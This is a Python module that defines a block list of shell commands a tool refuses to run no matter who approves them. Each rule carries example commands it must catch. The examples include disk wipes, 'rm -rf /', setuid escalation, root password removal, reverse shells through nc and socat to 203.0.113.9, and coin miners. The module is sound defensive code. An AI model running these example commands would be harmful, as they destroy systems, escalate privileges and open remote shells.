"""The table of what is never run, whoever says yes.

One entry is one rule: its name, why, a predicate over a call, commands that it must match and
look-alikes that it must spare. The tests check every example.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import TypeAlias

from .places import is_disk, is_system, is_vital, protected, squeeze


@dataclass(frozen=True, slots=True)
class Call:
    """A program and its arguments, expanded; `writes` are the files it is redirected into."""

    name: str
    args: tuple[str, ...]
    writes: tuple[str, ...]
    home: str
    cwd: str
    workspace: str = ""

    def full(self, path: str) -> str:
        """The path as seen from where the call runs."""
        return squeeze(path if path.startswith("/") or not self.cwd else f"{self.cwd}/{path}")

    def operands(self) -> list[str]:
        return [a for a in self.args if not a.startswith("-") or a == "-"]

    def has(self, letters: str, *long: str) -> bool:
        """Whether a short flag with one of *letters*, or a long one (also shortened), is given."""
        return any(_is_flag(a, letters, long) for a in self.args)


Predicate: TypeAlias = Callable[[Call], bool]


def _is_flag(arg: str, letters: str, long: tuple[str, ...]) -> bool:
    if arg.startswith("--") and len(arg) > 3:
        name = arg.partition("=")[0]
        return any(flag.startswith(name) for flag in long)
    return len(arg) > 1 and arg[0] == "-" and arg[1] != "-" and any(c in letters for c in arg[1:])


@dataclass(frozen=True, slots=True)
class Rule:
    """`programs` are the names it applies to (empty: any program)."""

    name: str
    why: str
    programs: frozenset[str]
    test: Predicate
    match: tuple[str, ...]
    spare: tuple[str, ...]


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


def _vital(call: Call, path: str) -> bool:
    full = call.full(path)
    whole = full.removesuffix("/*").rstrip("/") or "/"
    return is_vital(full, call.home) or (bool(call.workspace) and whole == call.workspace.rstrip("/"))


def _any_vital(call: Call) -> bool:
    return any(_vital(call, a) for a in call.operands())


def _removes_vital(call: Call) -> bool:
    return call.has("rR", "--recursive") and _any_vital(call)


def _finds_and_removes(call: Call) -> bool:
    removing = "-delete" in call.args or bool({"-exec", "-execdir", "-ok"} & set(call.args))
    changes = "-delete" in call.args or bool(_names("rm shred unlink chmod chown") & set(call.args))
    roots = [a for a in call.args[: _first_test(call.args)] if not a.startswith("-")]
    narrowed = any(a in ("-name", "-iname", "-path", "-mtime", "-regex", "-size") for a in call.args)
    return removing and changes and not narrowed and any(_vital(call, r) for r in roots)


def _first_test(args: tuple[str, ...]) -> int:
    return next((i for i, a in enumerate(args) if a[:1] in "-(!" and a not in ("-L", "-H", "-P")), len(args))


def _changes_tree(call: Call) -> bool:
    return call.has("R", "--recursive") and _any_vital(call)


def _touches_disk(call: Call) -> bool:
    values = (a.partition("=")[2] or a for a in call.args)
    return any(is_disk(v) for v in values)


def _formats(call: Call) -> bool:
    return _touches_disk(call) and not call.has("l", "--list", "--help", "--version", "--no-act")


def _dd_target(call: Call) -> str:
    return next((a[3:] for a in call.args if a.startswith("of=")), "")


def _dd(call: Call) -> bool:
    target = call.full(_dd_target(call))
    return is_disk(target) or is_system(target)


def _writes_bad(call: Call) -> bool:
    return any(_is_bad_target(call, w) for w in call.writes)


def _is_bad_target(call: Call, path: str) -> bool:
    full = call.full(path)
    return is_disk(full) or is_system(full) or full.startswith("/var/run/docker")


def _overwrites(call: Call) -> bool:
    operands = call.operands()
    return bool(operands) and _is_bad_target(call, operands[-1])


def _any_system(call: Call) -> bool:
    return any(_is_bad_target(call, a) for a in call.operands())


def _edits_in_place(call: Call) -> bool:
    return call.has("i", "--in-place") and _any_system(call)


def _downloads_over(call: Call) -> bool:
    flags = ("-o", "-O", "-d", "-C", "--output", "--output-document", "--directory", "-P")
    pairs = zip(call.args, call.args[1:], strict=False)
    values = [b for a, b in pairs if a in flags]
    values += [a.partition("=")[2] for a in call.args if a.startswith(flags) and "=" in a]
    return any(_is_bad_target(call, v) for v in values if v)


def _powers_off(call: Call) -> bool:
    return not call.has("ck", "--help", "--version", "--dry-run")


def _systemctl(call: Call) -> bool:
    verbs = _names("poweroff reboot halt kexec emergency rescue soft-reboot isolate")
    return bool(verbs & set(call.operands()[:1]))


def _bus(call: Call) -> bool:
    return bool(re.search(r"login1.*\b(?:PowerOff|Reboot|Halt|Suspend)", " ".join(call.args)))


_SETUID = re.compile(r"^[0-7]?[4-7][0-7]{3}$|^[ugoa]*\+[rwxXt]*s")
_OPEN = re.compile(r"^[0-7]?[0-7]{2}[2367]$|^[ugoa,]*[oa]?\+[rx]*w|^0*$")


def _mode(call: Call) -> bool:
    operands = call.operands()
    if not operands:
        return False
    if _SETUID.match(operands[0]):
        return True
    files = [call.full(f) for f in operands[1:]]
    return any(is_system(f) or ("private key" in protected(f) or "SSH" in protected(f)) for f in files)


def _install_setuid(call: Call) -> bool:
    modes = [b for a, b in zip(call.args, call.args[1:], strict=False) if a in ("-m", "--mode")]
    modes += [a[2:] for a in call.args if a.startswith("-m") and len(a) > 2]
    return any(_SETUID.match(m) for m in modes) or _overwrites(call)


def _listens_with_shell(call: Call) -> bool:
    return call.has("ec", "--exec", "--sh-exec", "--lua-exec") and any(
        re.search(r"(?:^|/)(?:ba|da|z|k|a)?sh\b|cmd|powershell", a) for a in call.args
    )


def _socat_shell(call: Call) -> bool:
    return any(re.match(r"(?i)(?:exec|system|shell):", a) for a in call.args)


def _kills_all(call: Call) -> bool:
    return call.operands()[-1:] == ["-1"] or call.args[-1:] == ("-1",)


def _mines(call: Call) -> bool:
    return call.name in _MINERS or any(a.startswith(("stratum+tcp:", "stratum+ssl:")) for a in call.args)


def _moves_vital(call: Call) -> bool:
    return len(call.operands()) > 1 and any(_vital(call, a) for a in call.operands()[:-1])


def _fills(call: Call) -> bool:
    sizes = re.findall(r"\b(\d+)([GTP])", " ".join(call.args))
    return any(int(n) >= 500 or unit in "TP" for n, unit in sizes)


def _volume(call: Call) -> bool:
    return bool(_names("destroy labelclear") & set(call.operands()[:1])) or call.has("", "--zero-superblock")


def _unmounts_root(call: Call) -> bool:
    return "/" in call.operands()


def _account(call: Call) -> bool:
    args = " ".join(call.args)
    return bool(re.search(r"(?:^| )-(?:aG|G|a -G) (?:sudo|wheel|root|admin|docker)\b|(?:^| )-d root\b", args))


_MINERS = _names("xmrig cpuminer minerd kinsing kdevtmpfsi t-rex nbminer ethminer cgminer bfgminer lolminer")
_ANY: frozenset[str] = frozenset()

RULES: tuple[Rule, ...] = (
    Rule("delete-vital", "it deletes the system, a home or the whole workspace", _names("rm rmdir unlink del-cli rimraf trash"),
         _removes_vital, ("rm -rf /", "rm -r ~", "rm -fR /etc/*"), ("rm -rf build", "rm -r /tmp/x", "rm -f ~/notes.txt")),
    Rule("find-vital", "it deletes or changes everything below a vital folder", _names("find fd"),
         _finds_and_removes, ("find / -delete", "find /etc -exec rm {} +"), ("find . -delete", "find /etc -name x")),
    Rule("change-tree", "it changes owner or rights of a vital folder and all below", _names("chmod chown chgrp setfacl chattr"),
         _changes_tree, ("chmod -R 777 /", "chown -R bob ~"), ("chmod -R u+w build", "chown bob notes.txt")),
    Rule("shred-vital", "it destroys a disk or a system file", _names("shred truncate wipe srm badblocks"),
         _any_system, ("shred /dev/sda", "truncate -s 0 /etc/hosts"), ("truncate -s 0 app.log",)),
    Rule("format", "it formats, wipes or repartitions a disk",
         _names("wipefs sgdisk gdisk fdisk sfdisk cfdisk parted mkswap blkdiscard hdparm cryptsetup pvremove pvcreate mdadm mkfs mke2fs"),
         _formats, ("wipefs -a /dev/sdb", "parted /dev/sda mklabel gpt"), ("fdisk -l /dev/sda", "parted -l")),
    Rule("make-filesystem", "it makes a new filesystem over a disk", _ANY,
         lambda c: c.name.startswith(("mkfs.", "newfs")) and _touches_disk(c), ("mkfs.ext4 /dev/sdb1",), ("mkfs.ext4 disk.img",)),
    Rule("volumes", "it destroys a storage volume", _names("zpool zfs mdadm btrfs"),
         _volume, ("zpool destroy tank",), ("zpool list", "zfs list")),
    Rule("volume-groups", "it removes storage volumes", _names("vgremove lvremove pvremove"),
         lambda c: bool(c.operands()) and not c.has("t", "--test"), ("vgremove vg0", "lvremove -f vg/lv"), ("vgremove --test vg0",)),
    Rule("erase-disk", "it erases a disk", _names("diskutil"),
         lambda c: any(a.lower().startswith(("erase", "zero", "partition")) for a in c.operands()[:1]),
         ("diskutil eraseDisk JHFS+ X disk2",), ("diskutil list",)),
    Rule("dd", "it writes raw data over a disk or a system file", _names("dd dcfldd dc3dd"),
         _dd, ("dd if=x of=/dev/sda", "dd of=/etc/passwd"), ("dd if=/dev/zero of=disk.img", "dd if=/dev/sda bs=1 count=1")),
    Rule("redirect", "its output overwrites a disk or a system file", _ANY,
         _writes_bad, ("echo x > /etc/passwd", "cat x > /dev/sda", "echo b > /proc/sysrq-trigger"), ("ls > /dev/null", "ls > out.txt")),
    Rule("overwrite", "it overwrites a disk or a system file", _names("cp mv ln rsync scp cpio link git"),
         lambda c: _overwrites(c) and (c.name != "git" or "clone" in c.args), ("cp x /usr/bin/ssh", "ln -sf a /etc/passwd"),
         ("cp /etc/hosts hosts.txt", "mv a b")),
    Rule("write-system", "it writes a disk or a system file", _names("tee ed ex patch sponge"),
         _any_system, ("tee /etc/hosts", "ed /etc/passwd"), ("tee out.log",)),
    Rule("edit-system", "it edits a system file in place", _names("sed perl ruby"),
         _edits_in_place, ("sed -i s/a/b/ /etc/hosts",), ("sed -n 1p /etc/hosts", "sed -i s/a/b/ x.txt")),
    Rule("unpack-system", "it downloads or unpacks over system files", _names("wget curl tar unzip bsdtar 7z aria2c"),
         _downloads_over, ("wget -O /etc/passwd http://x.example", "tar -xf a.tar -C /usr"), ("tar -xf a.tar -C out", "wget -O a.txt http://x.example")),
    Rule("move-vital", "it moves a vital folder away", _names("mv"), _moves_vital, ("mv /etc /tmp/x",), ("mv a /tmp/x",)),
    Rule("install-system", "it installs into the system, or a program with another user's rights", _names("install"),
         _install_setuid, ("install -m 4755 a /tmp/b", "install -m755 evil /usr/local/bin/sudo"), ("install -m 755 a bin/a",)),
    Rule("mode", "it opens up system files or keys, or gives a program another user's rights", _names("chmod"),
         _mode, ("chmod u+s /bin/bash", "chmod 777 /etc/shadow", "chmod 4755 /tmp/sh"), ("chmod +x run.sh", "chmod 644 README.md")),
    Rule("capabilities", "it gives a program the system's rights", _names("setcap"),
         lambda c: len(c.operands()) > 1, ("setcap cap_setuid+ep /usr/bin/python3",), ("setcap -h",)),
    Rule("accounts", "it changes accounts of this machine", _names("usermod passwd gpasswd"),
         _account, ("usermod -aG sudo eve", "passwd -d root"), ("passwd --status eve",)),
    Rule("account-files", "it changes accounts of this machine", _names("chpasswd userdel"),
         lambda c: not c.has("h", "--help"), ("userdel -r alice", "chpasswd"), ("userdel --help",)),
    Rule("kernel", "it changes the running kernel", _names("sysctl"),
         lambda c: c.has("w", "--write") or any("=" in a for a in c.operands()), ("sysctl -w kernel.core_pattern=x",), ("sysctl -a",)),
    Rule("power", "it stops the machine", _names("shutdown reboot halt poweroff telinit kexec"),
         _powers_off, ("shutdown -h now", "reboot", "telinit 6"), ("shutdown -c", "reboot --help")),
    Rule("init", "it stops the machine", _names("init"), lambda c: c.args[:1] in (("0",), ("6",), ("1",)), ("init 0",), ("init",)),
    Rule("systemctl", "it stops the machine", _names("systemctl loginctl"), _systemctl, ("systemctl poweroff",), ("systemctl status ssh",)),
    Rule("bus", "it stops the machine", _names("dbus-send busctl gdbus qdbus"), _bus,
         ("dbus-send org.freedesktop.login1.Manager.PowerOff",), ("dbus-send --help",)),
    Rule("unmount", "it unmounts the root", _names("umount"), _unmounts_root, ("umount -l /",), ("umount /mnt/usb",)),
    Rule("kill-all", "it ends every process", _names("kill"), _kills_all, ("kill -9 -1",), ("kill -9 1234",)),
    Rule("fill", "it fills the disk", _names("fallocate"), _fills, ("fallocate -l 1000G x",), ("fallocate -l 1G x",)),
    Rule("endless", "it never ends and takes all memory", _names("tail sort"),
         lambda c: bool({"/dev/zero", "/dev/urandom", "/dev/random"} & set(c.operands())) and not c.has("cn", "--bytes", "--lines"),
         ("tail /dev/zero",), ("tail -c 10 /dev/zero", "tail x.log")),
    Rule("remote-shell", "it hands a shell to another machine", _names("nc ncat netcat nc.traditional"),
         _listens_with_shell, ("nc -e /bin/sh 203.0.113.9 4444",), ("nc -z localhost 80",)),
    Rule("socat-shell", "it hands a shell to another machine", _names("socat"), _socat_shell,
         ("socat tcp:203.0.113.9:4444 exec:sh",), ("socat - tcp:localhost:80",)),
    Rule("miner", "it mines coins", _ANY, _mines, ("xmrig -o pool.example", "x -o stratum+tcp://p.example:1"), ("ls",)),
)  # fmt: skip

PROGRAMS = frozenset().union(*(r.programs for r in RULES))
_BY_PROGRAM = {name: tuple(r for r in RULES if name in r.programs) for name in PROGRAMS}
_FOR_ANY = tuple(r for r in RULES if not r.programs)


def broken_rule(call: Call) -> Rule | None:
    """The rule that forbids this call, if there is one."""
    for rule in (*_BY_PROGRAM.get(call.name, ()), *_FOR_ANY):
        if rule.test(call):
            return rule
    return None
